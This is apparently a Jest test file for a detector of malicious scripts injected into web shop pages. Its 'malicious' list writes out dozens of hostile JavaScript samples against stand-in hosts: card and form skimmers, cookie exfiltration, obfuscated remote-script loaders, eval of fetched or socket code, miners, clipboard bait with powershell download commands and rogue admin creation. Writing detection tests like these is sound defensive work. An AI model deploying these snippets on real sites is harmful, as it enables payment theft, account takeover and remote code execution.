import { describe, expect, test } from '@jest/globals'
import { analyseScripts } from './script-analysis.ts'
import { scriptHash } from './script-hash.ts'

const pageUrl = 'https://shop.test/a'
const page = (inside = '', nonce = 'r4nd0mN0nce1'): string => `<!doctype html><html><head><title>Shop</title>
<meta name="csrf-token" content="${nonce}"><script src="/app.js?v=${nonce}"></script>
<script nonce="${nonce}">window.app={csrfToken:"${nonce}","nonce":"${nonce}",time:17${nonce.length}0000000,build:"2026.11.${nonce.length}"}</script>
<script>(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC');</script>
</head><body><h1>Shop</h1>${inside}</body></html>`
const inline = (code: string): string => `<script>${code}</script>`

const codes = (text: string): string =>
  text
    .split('')
    .map((letter) => letter.charCodeAt(0))
    .join(',')
const escapes = (text: string): string =>
  text
    .split('')
    .map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`)
    .join('')
const percents = (text: string): string =>
  text
    .split('')
    .map((letter) => `%${letter.charCodeAt(0).toString(16)}`)
    .join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const loader = `(function(){var s=document.createElement('script');s.src='https://cdn.bad-host.test/a.js';document.head.appendChild(s);})();`

const moved = (text: string, by: number): string =>
  JSON.stringify(
    text
      .split('')
      .map((letter) => String.fromCharCode(letter.charCodeAt(0) + by))
      .join(''),
  )
const hex = (text: string): string => Buffer.from(text).toString('hex')
const write = `<script src="https://a.test/l.js"></script>`

const junk = 'QzWyT'
const inJunk = (text: string): string => `'${text.split('').join(junk)}'.replace(/${junk}/g,'')`

const malicious: readonly [string, string][] = [
  [
    'runs what a call fetches',
    `var k=()=>{var x=new XMLHttpRequest();x.open('GET','https://a.test/',false);x.send();return x.responseText};eval(k())`,
  ],
  ['calls by names in pieces', `window[['ev','al'].join('')](window[['at','ob'].join('')](x))`],
  ['mines for a pool', `startMining('pool.test','4ABC','x',50)`],
  [
    'offers an update',
    `if(/Chrome/.test(navigator.userAgent))document.body.innerHTML='<h1>Update your browser</h1><a href="https://a.test/Chrome.zip">Update</a>'`,
  ],
  ['calls by names in junk', `document[${inJunk('write')}](window[${inJunk('unescape')}](a.toString().replace(/${junk}/g,'%')))`],
  [
    'decodes a field of the page',
    `function d(){var o='',c=document.getElementById('k').value;for(i=0;i<9;i++)o=o+String.fromCharCode(k.indexOf(c.charAt(i)));return unescape(o)}document.write(d())`,
  ],
  [
    'runs what an element holds',
    `t=document.getElementById('k').innerHTML;x='';for(i=0;i<9;i++)x+=String.fromCharCode(t.charCodeAt(i)^7);[]['constructor']['constructor'](x)()`,
  ],
  ['runs the end of a picture', `x.onload=function(){new Function(this.responseText.slice(-12045))()}`],
  ['shuffles letters', `var s=document[_$_2f11[0]](_$_2f11[1]);s[_$_2f11[2]]=_$_2f11[3]`],
  ['spells numbers', `var n='200 201'.split(' '),o='';for(i=0;i<n.length;i++)o+=String.fromCharCode(n[i]-100);eval(o)`],
  ['spells bits', `Function(t.match(/.{8}/g).map(b=>String.fromCharCode(parseInt(b,2))).join(''));var f=a;eval(f)`],
  ['spells a tag', `for(v=0;v<9;v++)z+=String.fromCharCode(parseInt(t)+25);document.write('<'+x[0]+' '+x[4]+'>')`],
  [
    'hides the order of steps',
    `var f=function(){var t=2;while(t!==1){switch(t){case 2:z+=String.fromCharCode(L.charCodeAt(B)^U.charCodeAt(q));t=1}}}`,
  ],
  [
    'shows some visitors a frame',
    `if(navigator.userAgent.indexOf('MSIE')>0&&!/u=30/.test(document.cookie)){var d=document.createElement('div');d.innerHTML="<iframe src='"+u+"' width=19></iframe>";d.style.cssText='position:absolute;opacity:0;';s.src='http://a.test/x.php'}`,
  ],
  [
    'moves the letters of a text',
    `var s=${moved(write, 1)},m='';for(i=0;i<s.length;i++)m+=String.fromCharCode(s.charCodeAt(i)-1);document.write(m)`,
  ],
  [
    'moves the letters by thirteen',
    `var e=document.createElement('script');e.src='uggcf://pqa.onq.grfg/n.wf'.replace(/[a-z]/g,function(c){return String.fromCharCode(122>=(c=c.charCodeAt(0)+13)?c:c-26)});document.head.append(e)`,
  ],
  [
    'writes two digits a letter',
    `var h='${hex(loader)}',r='';for(i=0;i<h.length;i+=2)r+=String.fromCharCode(parseInt(h.substr(i,2),16));run(r);document.write(r)`,
  ],
  ['keeps numbers of letters', `new Function(new TextDecoder().decode(new Uint8Array([${codes(loader)}])))()`],
  [
    'loads from itself',
    `var s=document.createElement('script');s.src='data:text/javascript;base64,${base64(loader)}';h.append(s)`,
  ],
  ['lists pieces', `var s=document.createElement('script');s.src=['ht','tps',':/','/a.te','st/x.js'].join('');h.append(s)`],
  ['spells', `var s=document.createElement(['s','c','r','i','p','t'].join(''));s.src=u;h.append(s)`],
  [
    'fills templates with pieces',
    `const s=document[\`cre\${"ate"}Element\`](\`scr\${"ipt"}\`);s.src=\`ht\${"tps"}://a.test/x.js\``,
  ],
  [
    'writes in octal',
    `document.write("${write
      .split('')
      .map((letter) => `\\${letter.charCodeAt(0).toString(8)}`)
      .join('')}")`,
  ],
  [
    'hides a list of strings',
    `function l(){const n=['block','style'];l=function(){return n;};return l();}const k=f;function f(v){return l()[v-0xb1];}`,
  ],
  ['cuts names', `a['get'+'Ele'+'ment'](b)['val'+'ue'];c['len'+'gth'];d['app'+'end'](e)`],
  [
    'runs an answer',
    `var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};if(document.referrer)x.open('GET','//a.test/p'),x.send()`,
  ],
  ['runs what listeners of a socket hear', `new WebSocket('wss://a.test').addEventListener('message',e=>{Function(e.data)()})`],
  ['runs a picture', `var d=x.getImageData(0,0,9,9).data,s='';for(k=0;k<99;k+=4)s+=String.fromCharCode(d[k]);new Function(s)()`],
  [
    'sends the form of a card',
    `setInterval(function(){if(document.getElementsByName('payment[cc_number]')[0].value.length==16&&document.getElementsByName('payment[cc_cid]')[0].value)jQuery.ajax({url:'https://g.test/gate.php?host='+location.host,data:jQuery('form').serialize(),type:'POST'})},700)`,
  ],
  [
    'reads all fields',
    `document.querySelector('#place_order').addEventListener('click',()=>{const o={};document.querySelectorAll('input,select').forEach(e=>{o[e.name]=e.value});fetch('https://g.test/c',{method:'POST',mode:'no-cors',body:btoa(JSON.stringify(o))})})`,
  ],
  [
    'hides in a packed counter',
    `eval(function(p,a,c,k,e,r){return p}('1.2(3 4(\\'5\\',{6:\\'7://8.9/a.b\\'}))',12,12,'x|head|appendChild|new|Element|script|src|https|bad|test|a|js'.split('|'),0,{}))`,
  ],
  [
    'swaps addresses for money',
    `document.addEventListener('copy',function(e){if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(getSelection())){e.clipboardData.setData('text/plain',w)}})`,
  ],
  [
    'baits with what it decodes',
    `var c=atob('${base64('powershell -nop -enc SQBFAFgA')}');b.onclick=()=>navigator.clipboard.writeText(c)`,
  ],
  [
    'sends a long address with cookies',
    `(new Image()).src='http://z.test/?l='+escape(location)+'&t=${'x'.repeat(700)}&cookie='+escape(document.cookie)`,
  ],
  ['runs character codes', `eval(String.fromCharCode(${codes(loader)}))`],
  [
    'writes a tag in character codes',
    `var e=document.createElement(String.fromCharCode(${codes('script')}));e.src=String.fromCharCode(${codes('https://a.test/m.js')});document.head.appendChild(e)`,
  ],
  [
    'moves character codes',
    `var a=[${loader
      .split('')
      .map((letter) => letter.charCodeAt(0) + 7)
      .join(',')}],r='';for(var i=0;i<a.length;i++)r+=String.fromCharCode(a[i]-7);eval(r)`,
  ],
  ['runs base64', `eval(atob('${base64(loader)}'))`],
  [
    'loads from base64',
    `var s=document.createElement('script');s.src=atob('${base64('https://a.test/x.js')}');document.body.appendChild(s)`,
  ],
  ['runs percent codes', `eval(unescape('${percents(loader)}'))`],
  ['writes percent codes', `document.write(unescape('${percents('<script src=//a.test/l.js></script>')}'))`],
  [
    'spells in escapes',
    `var a=["${escapes('createElement')}","${escapes('script')}","${escapes('https://a.test/a.js')}"];var e=document[a[0]](a[1]);e.src=a[2];document.head.append(e)`,
  ],
  ['cuts words', `var s=document['cre'+'ateEl'+'ement']('scr'+'ipt');s.src='//a.test/a.js';document.head.append(s)`],
  [
    'writes backwards',
    `var s=document.createElement('script');s.src='${'https://a.test/a.js'.split('').reverse().join('')}'.split('').reverse().join('');document.head.append(s)`,
  ],
  ['mixes in junk', `s.src='${'https://a.test/a.js'.split('').join('#')}'.replace(/#/g,'')`],
  [
    'has the names of an obfuscator',
    `var _0x1a2b=['a'];(function(_0x2b3c,_0x3c4d){var _0x4d5e=function(_0x5e6f){while(--_0x5e6f){_0x2b3c.push(_0x2b3c.shift())}};_0x4d5e(++_0x3c4d)}(_0x1a2b,0x1f));var _0x6f70=1`,
  ],
  ['is written in brackets', '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]'.repeat(6)],
  [
    'reads cards',
    `setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){d[e.name]=e.value});if(d['payment[cc_number]']&&d.cvv){new Image().src='https://g.test/i.gif?d='+btoa(JSON.stringify(d))}},3000);document.addEventListener('x',function(){})`,
  ],
  ['mines', `new CoinHive.Anonymous('key').start()`],
  ['baits the clipboard', `b.onclick=function(){navigator.clipboard.writeText('powershell -w h -c "iwr https://a.test|iex"')}`],
  [
    'leads searchers elsewhere',
    `if(document.referrer.match(/google|bing/)&&document.cookie.indexOf('v')<0){location.href='https://a.test/go'}`,
  ],
  ['runs what a socket sends', `var w=new WebSocket('wss://a.test/s');w.onmessage=function(e){eval(e.data)}`],
  [
    'makes an administrator',
    `var x=new XMLHttpRequest();x.open('POST','/wp-admin/user-new.php');x.send('action=createuser&_wpnonce_create-user='+nonce)`,
  ],
]

/** As they stand on pages everywhere. */
const benign: readonly [string, string][] = [
  [
    'a doorkeeper',
    `(function(){var z='',b='${hex(`var s=document.createElement('script');s.src='/_Incapsula_Resource?a=1';document.head.appendChild(s)`)}';for(var i=0;i<b.length;i+=2)z+=parseInt(b.substring(i,i+2),16)+',';eval(eval('String.fromCharCode('+z.slice(0,-1)+')'))})()`,
  ],
  [
    'another doorkeeper',
    `var e=eval,sucuri_cloudproxy_js='',S='${base64("document.cookie='sucuri_cloudproxy_uuid=1;path=/'; location.reload();")}',r='';A='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';e(r)`,
  ],
  ['links that are decoded when they are clicked', `a.onclick=function(){window.location.href=atob(this.dataset.href)}`],
  [
    'a counter that knows a cookie',
    `function c(n){return document.cookie.match(n)}(new Image).src='https://count.test/p.gif?r='+escape(document.referrer)+'&i='+c('u')`,
  ],
  [
    'a cookie banner',
    `var o={cookie:{expiryDays:365}};n=['cc-type-'+t];document.cookie=n;fetch('https://geo.test').then(function(r){i.value=JSON.stringify(r)});a.addEventListener('x',f)`,
  ],
  [
    'fields that a recorder leaves out',
    `if(!/^cc|cardnum|ccnum|creditcard|csc|cvc|cvv|exp|pass|securitycode/.test(e.name))fetch('https://r.test',{body:JSON.stringify(e.value)});a.addEventListener('x',f)`,
  ],
  [
    'names of old plugins',
    `['AcroPDF.PDF','ADODB.Stream','WScript.Shell','Shell.UIHelper'].map(function(n){try{new window.ActiveXObject(n)}catch(e){}});${'f();'.repeat(2_500)}`,
  ],
  [
    'a button that copies how to install',
    `b.onclick=()=>navigator.clipboard.writeText('curl -fsSL https://tool.test/install.sh | sh')`,
  ],
  [
    'a form for a customer register',
    `f.onsubmit=function(){var d={};this.querySelectorAll('input,select').forEach(function(e){d[e.name]=e.value});fetch('https://crm.test/leads',{method:'POST',body:JSON.stringify(d)})}`,
  ],
  [
    'a login',
    `f.onsubmit=async()=>{const r=await fetch('https://auth.test/login',{method:'POST',body:JSON.stringify({p:document.querySelector('[name=password]').value})});if(r.ok)location.href='/home'}`,
  ],
  [
    'an old counter',
    `document.write(unescape("%3Cscript src='" + h + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
  ],
  ['a fallback', `window.jQuery || document.write('<scr'+'ipt src="/jquery.js"><\\/scr'+'ipt>')`],
  ['a hidden address', `eval(decodeURIComponent('${percents(`document.write('<a href="mailto:info@shop.test">mail</a>');`)}'))`],
  ['a hidden address in codes', `document.write('<a href="mailto:'+String.fromCharCode(${codes('info@shop.test')})+'">x</a>')`],
  ['flags', `s([55356,56826,55356,56819],[55356,56826,8203,55356,56819]);var c=String.fromCharCode`],
  [
    'a counter in a frame',
    `document.write('<iframe src="https://1.fls.doubleclick.net/a?" width="1" height="1" style="display:none"></iframe>');`,
  ],
  ['settings in base64', `init(JSON.parse(atob("${base64('{"api":"https://api.shop.test","k":[1,2,3]}')}")))`],
  [
    'a packed player',
    `eval(function(p,a,c,k,e,d){return p}('0("1").2({3:"4"})',36,5,'jwplayer|v|setup|file|https://cdn.shop.test/a.m3u8'.split('|')))`,
  ],
  ['a global', `var g=Function("return this")();`],
  [
    'tags in escapes',
    `var s='\\x3cdiv class\\x3d\\x22g\\x22\\x3e\\x3ca href\\x3d\\x22https://shop.test/\\x22\\x3e';d.innerHTML=s`,
  ],
  [
    'a card form',
    `var n=$('#cardNumber').val(),c=$('#cvv').val();$('#f').on('submit',function(){$.post('/pay',$(this).serialize())})`,
  ],
]

describe('without a baseline', () => {
  test.each(malicious)('%s', (_name, code) => expect(analyseScripts(inline(code)).verdict).toBe('malicious'))
  test.each(malicious)('as a bare script: %s', (_name, code) => expect(analyseScripts(code).verdict).toBe('malicious'))
  test.each(benign)('is not alarmed by %s', (_name, code) => expect(analyseScripts(inline(code)).severity).toBeNull())
  test('looks into handlers and data addresses', () => {
    expect(analyseScripts(`<img src=x onerror="eval(atob('${base64(loader)}'))">`).verdict).toBe('malicious')
    const hidden = base64(`eval(String.fromCharCode(${codes(loader)}))`)
    expect(analyseScripts(`<script src="data:text/javascript;base64,${hidden}"></script>`).verdict).toBe('malicious')
  })
  test('data is no script', () =>
    expect(analyseScripts(`<script type="application/json">{"a":"eval(atob('YWxlcnQoMSk='))"}</script>`).scripts).toEqual([]))
})

describe('with a baseline', () => {
  const baseline = analyseScripts(page(), undefined, { pageUrl })
  const after = (html: string, isSensitive = false) => analyseScripts(html, baseline, { pageUrl, isSensitive })

  test('one-time codes, dates and versions are no change', () => {
    const rotated = after(page('', 'Zx9Kq27LmPw'))
    expect(rotated).toMatchObject({ verdict: 'clean', changes: [], severity: null })
  })
  test.each(malicious)('something new that %s', (_name, code) => {
    const { severity, changes } = after(page(inline(code)))
    expect(changes).toHaveLength(1)
    expect(['high', 'critical']).toContain(severity)
  })
  test.each(benign.filter(([name]) => !/packed|in codes|hidden|base64/.test(name)))(
    'something new and harmless: %s',
    (_name, code) => expect(after(page(inline(code))).severity).toBe('low'),
  )
  test('two weak signals of different families', () => {
    expect(after(page(inline(loader))).severity).toBe('high')
    expect(after(page(inline('eval(x)'))).severity).toBe('low')
    expect(after(page('<iframe src="https://a.test/" width=1 height=1></iframe>')).severity).toBe('high')
    expect(after(page('<div style="position:absolute;top:-1200px"><iframe src="https://a.test/"></iframe></div>')).severity).toBe(
      'high',
    )
    expect(after(page(inline(`$('body').append('<scr'+'ipt src="https://a.test/a.js"></scr'+'ipt>')`))).severity).toBe('high')
    const formsElsewhere = `document.querySelectorAll('form').forEach(function(f){f.action='https://a.test/?r='+f.action})`
    expect(after(page(inline(formsElsewhere))).severity).toBe('high')
    expect(
      after(page(inline(`document.querySelectorAll('a[href*="checkout"]').forEach(a=>a.href='https://a.test/')`))).severity,
    ).toBe('high')
    const inPieces = `var f=document.createElement('iframe');f.style.width='0';f.style.height='0';f.src='//'+'a'+'.test/'+x`
    expect(after(page(inline(inPieces))).severity).toBe('high')
    expect(after(page('<script src="https://widget.test/w.js"></script>')).severity).toBe('low')
    expect(after(page('<script src="https://stat1.cheap-ads.top/w.js"></script>')).severity).toBe('high')
  })
  test('where cards are typed it is critical', () => expect(after(page(inline(loader)), true).severity).toBe('critical'))
  test('what was there is no news, however bad', () => {
    const infected = page(inline(`eval(atob('${base64(loader)}'))`))
    expect(analyseScripts(infected, analyseScripts(infected), { pageUrl }).severity).toBeNull()
  })
})

test.each([
  ['a nonce', `f("nonce","a8f3b2c1d0")`, `f("nonce","77aa12bb34")`],
  ['a time', `var t=1732131452123`, `var t=1732139999999`],
  ['a token', `x={csrf_token:"abcDEF"}`, `x={csrf_token:"ghiJKL"}`],
  ['a build', `load("/main.3f9ab2c1.js")`, `load("/main.77d0e1f2.js")`],
  ['an identity', `id='6f1c7f9e-1b1c-4b8e-9b3d-0f9b6f6f6f6f'`, `id='00000000-1b1c-4b8e-9b3d-0f9b6f6f6f6f'`],
])('%s does not change a hash', (_name, a, b) => expect(scriptHash(a)).toBe(scriptHash(b)))

test('a host does', () => expect(scriptHash(`load("https://a.test/x.js")`)).not.toBe(scriptHash(`load("https://b.test/x.js")`)))

test.each([
  '"',
  "'",
  '`',
  '(',
  '\\',
  '["a"]',
  '"a"+',
  '1,',
  'eval(',
  '_0x1a ',
  'fromCharCode 10,',
  'atob ',
  'document.write(',
  '<iframe',
  "'<input ",
  "['a'+'b']",
  "['a'].join('')",
  'fetch( eval https://a.test/ .text() =>',
  'charCodeAt(i)-1 fromCharCode "abcdefghijklmnopq"',
  'window.open(',
  'ab|cvv|cvc|',
])('is done in time with nothing but %s', (piece) => {
  const started = performance.now()
  analyseScripts(piece.repeat(Math.ceil(65_536 / piece.length)))
  expect(performance.now() - started).toBeLessThan(2_000)
})
